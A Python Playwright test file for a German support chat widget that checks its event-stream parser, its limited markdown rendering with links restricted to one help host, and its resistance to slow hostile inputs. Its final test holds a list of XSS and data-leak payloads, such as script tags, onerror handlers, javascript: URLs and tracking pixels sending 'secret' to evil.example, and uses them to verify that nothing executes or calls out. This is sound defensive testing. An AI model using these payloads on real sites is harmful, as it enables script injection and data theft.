import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect
from widget_service import Service, events, running, whole

pytestmark = pytest.mark.slow

RENDER = """async ([text, hosts]) => {
  const { markdown } = await import("/widget-markdown.js");
  const node = document.createElement("div");
  node.append(markdown(text, { hosts: new Set(hosts), tableLabel: "T" }));
  return node.innerHTML;
}"""
HOST = "hilfe.example"
TABLE = '<div class="table" role="region" tabindex="0" aria-label="T"><table><thead><tr>'


@pytest.fixture(scope="module")
def blank(browser: Browser) -> Iterator[Page]:
    with running(Service()) as service:
        page = browser.new_page()
        page.goto(service.origin + "/host")
        yield page
        page.close()


PARSING = [
    pytest.param("data: a\n\n", [["message", "a"]], id="no event name"),
    pytest.param("event: x\r\ndata: a\r\ndata: b\r\n\r\n", [["x", "a\nb"]], id="crlf and two data lines"),
    pytest.param("event: x\rdata: a\r\rdata: b\n\n", [["x", "a"], ["message", "b"]], id="lone carriage returns"),
    pytest.param(": ping\n\ndata: a\n: c\n\n", [["message", "a"]], id="comments"),
    pytest.param("event: x\n\ndata:a\n\n", [["message", "a"]], id="an event without data is none"),
    pytest.param(
        "data:  a: b\nid: 1\nretry: 2\nfoo\n\n", [["message", " a: b"]], id="one space goes, other fields too"
    ),
    pytest.param("\ufeffdata: ä😀\n\ndata: cut", [["message", "ä😀"]], id="byte order mark and an unfinished event"),
    pytest.param("data\n\n", [["message", ""]], id="data without a colon"),
]


@pytest.mark.parametrize("size", [1, 2, 3, 1000])
@pytest.mark.parametrize(("stream", "expected"), PARSING)
def test_the_event_parser_follows_the_standard(blank: Page, stream, expected, size):
    read = """async ([bytes, size]) => {
      const { readEvents } = await import("/widget-sse.js");
      const body = new ReadableStream({ start(controller) {
        for (let at = 0; at < bytes.length; at += size) controller.enqueue(new Uint8Array(bytes.slice(at, at + size)));
        controller.close();
      } });
      const found = [];
      for await (const { event, data } of readEvents(body)) found.push([event, data]);
      return found;
    }"""
    assert blank.evaluate(read, [list(stream.encode()), size]) == expected


def anchor(url: str, label: str) -> str:
    return f'<a href="{url}" target="_blank" rel="noopener noreferrer">{label}</a>'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        pytest.param("eins\nzwei\n\ndrei", "<p>eins\nzwei</p><p>drei</p>", id="paragraphs"),
        pytest.param("eins  \nzwei", "<p>eins<br>zwei</p>", id="hard break"),
        pytest.param(
            "**fett** *kursiv* _auch_ `x < y`",
            "<p><strong>fett</strong> <em>kursiv</em> <em>auch</em> <code>x &lt; y</code></p>",
            id="inline",
        ),
        pytest.param("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>", id="nested emphasis"),
        pytest.param(
            "snake_case_name 2*3*4 **offen",
            "<p>snake_case_name 2<em>3</em>4 **offen</p>",
            id="underscores inside words",
        ),
        pytest.param(r"\*kein\* 5 \| 6", "<p>*kein* 5 | 6</p>", id="escapes"),
        pytest.param("## Titel ##\nText", "<p><strong>Titel</strong></p><p>Text</p>", id="heading"),
        pytest.param(
            "- a\n- b\n  - c\n    1. d\n- e",
            "<ul><li>a</li><li>b<ul><li>c<ol><li>d</li></ol></li></ul></li><li>e</li></ul>",
            id="nested lists",
        ),
        pytest.param("3. a\n\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>', id="loose ordered list"),
        pytest.param("- a\n  weiter\n\nText", "<ul><li>a\nweiter</li></ul><p>Text</p>", id="item of two lines"),
        pytest.param("- a\n1. b", "<ul><li>a</li></ul><ol><li>b</li></ol>", id="two kinds of lists"),
        pytest.param("a\n- b", "<p>a</p><ul><li>b</li></ul>", id="list after text"),
        pytest.param("> Zitat\n> weiter", "<p>Zitat\nweiter</p>", id="quote"),
        pytest.param("a\n\n---\n\nb", "<p>a</p><p>b</p>", id="rule"),
        pytest.param(
            "| a | b |\n|---|:-:|\n| 1 | **2** |",
            f'{TABLE}<th scope="col">a</th><th scope="col">b</th></tr></thead>'
            "<tbody><tr><td>1</td><td><strong>2</strong></td></tr></tbody></table></div>",
            id="table",
        ),
        pytest.param(
            "| a \\| b |\n|---|",
            f'{TABLE}<th scope="col">a | b</th></tr></thead><tbody></tbody></table></div>',
            id="escaped pipe",
        ),
        pytest.param("| kein | Ende", "<p>| kein | Ende</p>", id="no table"),
        pytest.param(
            f"[Hilfe](https://{HOST}/a?b=1#c)",
            f"<p>{anchor(f'https://{HOST}/a?b=1#c', 'Hilfe')}</p>",
            id="link to a source's host",
        ),
        pytest.param(
            f"Siehe https://{HOST}/a.",
            f"<p>Siehe {anchor(f'https://{HOST}/a', f'https://{HOST}/a')}.</p>",
            id="bare link",
        ),
        pytest.param("[Hilfe](https://böse.example/)", "<p>Hilfe</p>", id="foreign link"),
        pytest.param("https://boese.example/x", "<p>https://boese.example/x</p>", id="foreign bare link"),
        pytest.param(f"[a](https://{HOST}@boese.example/)", "<p>a</p>", id="host as user name"),
        pytest.param(f"[a](https://x@{HOST}/)", "<p>a</p>", id="credentials"),
        pytest.param(f"[a](https://{HOST}.boese.example/)", "<p>a</p>", id="host as prefix"),
        pytest.param(f"[a](https://{HOST}:8443/)", "<p>a</p>", id="other port"),
        pytest.param(f"[a](//{HOST}/x) [b](/x)", "<p>a b</p>", id="relative"),
        pytest.param(f"![Bild](https://{HOST}/x.png)", "<p>Bild</p>", id="image"),
        pytest.param("<b>x</b> &amp;", "<p>&lt;b&gt;x&lt;/b&gt; &amp;amp;</p>", id="markup stays text"),
        pytest.param("", "", id="nothing"),
        pytest.param("\r\n \r\n", "", id="blank"),
    ],
)
def test_a_safe_subset_of_markdown_is_rendered(blank: Page, text, html):
    assert blank.evaluate(RENDER, [text, [HOST]]) == html


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("*" * 20_000, id="stars"),
        pytest.param("[" * 20_000, id="brackets"),
        pytest.param("**a" * 7_000, id="open bold"),
        pytest.param("_a " * 7_000, id="underscores"),
        pytest.param("`" * 20_001, id="backticks"),
        pytest.param("|" * 20_000 + "\n" + "-|" * 10_000, id="pipes"),
        pytest.param("\n".join(" " * n + "- x" for n in range(200)), id="deep lists"),
        pytest.param("![a](" * 5_000, id="images"),
        pytest.param("https://" * 3_000, id="links"),
        pytest.param("#" * 20_000 + " " * 20_000 + "x", id="headings"),
        pytest.param(" " * 30_000 + "x" + " " * 30_000, id="spaces"),
        pytest.param("-" * 30_000 + "x", id="dashes"),
    ],
)
def test_hostile_markdown_does_not_freeze_the_page(blank: Page, text):
    clock = f"async (given) => {{ const t = performance.now(); await ({RENDER})(given); return performance.now() - t }}"
    assert blank.evaluate(clock, [text, [HOST]]) < 2000


PAYLOADS = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    '<img src="https://evil.example/leak?x=1">',
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<iframe src=javascript:window.hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=https://evil.example/o></object>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<style>@import url(https://evil.example/s.css)</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input autofocus onfocus=window.hit=1></form>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<a href=javascript:window.hit=1>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<template><img src=x onerror=window.hit=1></template>",
    '"><img src=x onerror=window.hit=1>',
    "'\"--></style></script><script>window.hit=1</script>",
    "&lt;img src=x onerror=window.hit=1&gt;",
    "[x](javascript:window.hit=1)",
    "[x](JaVaScRiPt:window.hit=1)",
    "[x](&#106;avascript:window.hit=1)",
    "[x](java\tscript:window.hit=1)",
    "[x](\x01javascript:window.hit=1)",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,<script>parent.hit=1</script>)",
    "[x](https://evil.example/?q=secret)",
    "[x](//evil.example/)",
    "[x](https:evil.example)",
    "[x](https://hilfe.bohnenpost.example@evil.example/)",
    "[x](https://hilfe.bohnenpost.example\\@evil.example/)",
    "![x](https://evil.example/pixel.png?d=secret)",
    "![x](data:image/svg+xml,<svg onload=window.hit=1>)",
    "[![x](https://evil.example/p.png)](https://evil.example/)",
    "[x]: https://evil.example/\n[x]",
    "<https://evil.example/>",
    "https://evil.example/auto",
    "`<img src=x onerror=window.hit=1>`",
    "**<img src=x onerror=window.hit=1>**",
    "| <img src=x onerror=window.hit=1> |\n|---|\n| [x](javascript:window.hit=1) |",
    "- <img src=x onerror=window.hit=1>\n  - [x](javascript:window.hit=1)",
    "# <img src=x onerror=window.hit=1>",
    '[x](https://hilfe.bohnenpost.example/"onmouseover=window.hit=1)',
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}",
    "__proto__",
    "\u202e[x](https://evil.example/)",
    "@import 'https://evil.example/s.css';",
]  # fmt: skip
URLS = [
    "javascript:window.hit=1",
    " javascript:window.hit=1",
    "java\nscript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "https://user:word@evil.example/",
    "/relative",
    "",
    None,
    7,
    {"toString": "x"},
]


def test_no_payload_runs_or_calls_out_wherever_it_stands(page: Page, service: Service):
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    service.csp = (
        "default-src * 'unsafe-inline' 'unsafe-eval' data:"  # the widget itself must hold, without the host's policy
    )
    page.goto(service.origin + "/host")
    page.locator("auskunft-chat .launcher").click()
    safe = {
        "article_id": "a",
        "title": "T",
        "url": "https://hilfe.bohnenpost.example/t",
        "language": "de",
        "quote": "q",
        "score": 1,
    }
    for start in range(0, len(PAYLOADS), 10):
        batch = PAYLOADS[start : start + 10]
        sources = [safe, *({**safe, "title": payload, "quote": payload} for payload in batch)]
        choices = [{"article_id": payload, "title": payload, "language": payload} for payload in batch[:3]]
        fields = {"sources": sources, "choices": choices, "language": batch[0], "reply_id": batch[0]}
        service.turns.append(whole(events("\n\n".join(batch), **fields)))
    service.turns.append(whole(events("URLs", sources=[{**safe, "title": "U", "url": url} for url in URLS])))
    answers = page.locator("auskunft-chat .log article[data-author=ai]")
    for count in range(1, len(service.turns) + 1):
        page.locator("auskunft-chat textarea").fill(PAYLOADS[count])
        page.locator("auskunft-chat textarea").press("Enter")
        expect(answers).to_have_count(count)
    links = page.locator("auskunft-chat .log a")
    for index in range(links.count()):
        links.nth(index).hover(force=True)
    page.wait_for_timeout(300)
    assert page.evaluate("window.hit") is None
    assert [url for url in requested if not url.startswith(service.origin)] == []
    root = "document.querySelector('auskunft-chat').shadowRoot"
    foreign = (
        f"[...{root}.querySelectorAll('script, img, iframe, object, style, link, base, meta, video, template')].length"
    )
    assert page.evaluate(foreign) == 0
    hosts = page.evaluate(f"[...{root}.querySelectorAll('.log a')].map((node) => node.protocol + node.host)")
    assert set(hosts) == {"https:hilfe.bohnenpost.example"}
    names = page.evaluate(f"[...{root}.querySelectorAll('*')].flatMap((node) => node.getAttributeNames())")
    assert [name for name in names if name.startswith("on")] == []
    assert json.dumps(page.url) == json.dumps(service.origin + "/host")
